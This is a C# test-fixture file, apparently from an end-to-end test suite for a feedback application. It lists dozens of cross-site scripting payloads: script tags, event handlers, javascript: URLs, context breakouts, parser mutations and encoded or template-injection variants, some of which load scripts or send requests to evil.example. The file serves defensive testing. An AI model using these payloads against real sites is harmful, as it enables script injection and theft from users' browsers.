namespace Feedback.EndToEnd.Pages;

/// <summary>
/// What somebody may send to have a script run in a manager's browser: markup in every context that a text is shown in, the ways around filters that are known
/// from the usual collections (the OWASP cheat sheet, HTML5 Security Cheatsheet, PortSwigger's list), and mutations that parsers make. Each sets
/// <c>window.owned</c> when it runs.
/// </summary>
internal static class MarkupCorpus
{
    private const string Js = "window.owned=1";

    public static readonly string[] Payloads =
    [
        // scripts
        $"<script>{Js}</script>", $"<SCRIPT>{Js}</SCRIPT>", $"<scr<script>ipt>{Js}</scr</script>ipt>", $"<script\n>{Js}</script\t>", $"<script/x>{Js}</script>",
        "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,window.owned=1></script>", $"<script type=module>{Js}</script>",
        $"<<script>{Js}//<</script>", $"<script>{Js}", $"<svg><script>{Js}</script></svg>", "<svg><script href=data:,window.owned=1 /></svg>",
            $"<math><script>{Js}</script></math>",
        // handlers
        $"<img src=x onerror=\"{Js}\">", $"<img src=x onerror={Js}//", $"<img/src=x/onerror={Js}>", $"<IMG SRC=x OnErRoR={Js}>",
            $"<img src=x:x onerror\n=\n{Js}>", $"<image src=x onerror={Js}>",
        $"<svg onload=\"{Js}\"></svg>", $"<svg/onload={Js}>", $"<svg><animate onbegin={Js} attributeName=x dur=1s>", $"<svg><set onbegin={Js} attributeName=x>",
        $"<body onload={Js}>", $"<video src=x onerror={Js}></video>", $"<video><source onerror={Js}></video>", $"<audio src=x onerror={Js}></audio>",
            $"<object data=x onerror={Js}></object>",
        $"<input autofocus onfocus={Js}>", $"<select autofocus onfocus={Js}></select>", $"<textarea autofocus onfocus={Js}></textarea>",
            $"<keygen autofocus onfocus={Js}>",
        $"<details open ontoggle={Js}>x</details>", $"<marquee onstart={Js}>x</marquee>",
            $"<div style=\"animation-name:rise;animation-duration:1s\" onanimationstart={Js}>x</div>",
        $"<x onclick={Js} tabindex=1 id=x autofocus onfocus={Js}>x</x>", $"<style onload={Js}></style>", $"<link rel=stylesheet href=x onerror={Js}>",
            $"<iframe onload={Js}></iframe>",
        // addresses
        $"<a href=\"javascript:{Js}\" autofocus onfocus=\"{Js}\">x</a>", $"<a href=\" &#14; javascript:{Js}\">x</a>", $"<a href=java&#10;script:{Js}>x</a>",
            $"<iframe src=\"javascript:parent.owned=1\"></iframe>",
        "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>", "<embed src=javascript:window.owned=1>",
            "<object data=\"data:text/html,<script>parent.owned=1</script>\"></object>",
        $"<form action=javascript:{Js}><button autofocus>x</button></form>", $"<svg><a xlink:href=javascript:{Js}><text>x</text></a></svg>",
            $"<meta http-equiv=refresh content=\"0;url=javascript:{Js}\">",
        "<base href=\"https://evil.example/\"><form action=\"https://evil.example/\"><button>x</button></form>",
        "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<img src=https://evil.example/pixel.gif>", "<div style=\"background:url(https://evil.example/x)\">x</div>",
        // ways out of where a text stands
        $"\"><script>{Js}</script>", $"'><img src=x onerror={Js}>", $"\" autofocus onfocus={Js} x=\"", $"' onmouseover={Js} x='",
            $"</p></blockquote></main><script>{Js}</script>", $"</mark></b><script>{Js}</script>",
        $"</title><script>{Js}</script>", $"</textarea><script>{Js}</script>", $"</option></select><script>{Js}</script>", $"--><script>{Js}</script><!--",
            $"<!--><script>{Js}</script>-->", $"]]><script>{Js}</script>",
        // what parsers make of it
        $"<math><mtext></mtext><mglyph><style><img src onerror={Js}></style></mglyph></math>",
            $"<noscript><p title=\"</noscript><img src=x onerror={Js}>\"></noscript>",
        $"<svg></p><style><a id=\"</style><img src=x onerror={Js}>\">", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Js}>",
            $"<table><td><svg><desc><td><img src=x onerror={Js}>",
        $"<template><script>{Js}</script></template>", $"<xmp><p title=\"</xmp><img src=x onerror={Js}>\">", $"<plaintext><script>{Js}</script>",
        // encoded and templated
        $"&lt;script&gt;{Js}&lt;/script&gt;", $"&#60;img src=x onerror={Js}&#62;", $"&amp;lt;script&amp;gt;{Js}",
            $"\\u003cscript\\u003e{Js}\\u003c/script\\u003e", "%3Cscript%3Ewindow.owned=1%3C/script%3E",
        $"+ADw-script+AD4-{Js}+ADw-/script+AD4-", $"＜script＞{Js}＜/script＞", $"{{{{constructor.constructor('{Js}')()}}}} ${{{Js}}}",
            $"@(System.IO.File.ReadAllText(\"x\")) <%= {Js} %> #{{{Js}}}",
        $"\u2028<script>{Js}</script>\u2029", $"<img src=x onerror=\u2028{Js}>", $"<scr\u00ADipt>{Js}</scr\u00ADipt>", $"\u202E<script>{Js}</script>",
    ];
}
